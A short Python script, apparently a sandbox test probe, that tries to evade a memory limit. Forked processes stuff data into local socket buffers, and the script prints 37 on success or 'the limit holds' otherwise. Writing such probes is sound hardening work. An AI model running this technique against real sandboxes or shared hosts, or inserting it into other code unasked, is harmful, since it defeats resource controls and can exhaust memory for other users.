# Attack on stdin_stdout (memory limit): keeps it in the buffers of local sockets of several processes.
import os, socket
def fill():
    held, kept = 0, []
    try:
        while held < 64 << 20:
            for end in socket.socketpair():
                kept.append(end)
                end.setblocking(False)
                try:
                    while True:
                        held += end.send(bytes(1 << 16))
                except BlockingIOError:
                    pass
    except OSError:
        pass
    return held, kept
ends = []
for i in range(5):
    here, there = os.pipe(), os.pipe()
    if os.fork() == 0:
        os.close(there[1])
        os.write(here[1], b"%d" % fill()[0])
        os.read(there[0], 1)
        os._exit(0)
    os.close(here[1])
    ends.append((here[0], there[1]))
held = sum(int(os.read(end, 32) or 0) for end, _ in ends)
print(37 if held >= 256 << 20 else "the limit holds")
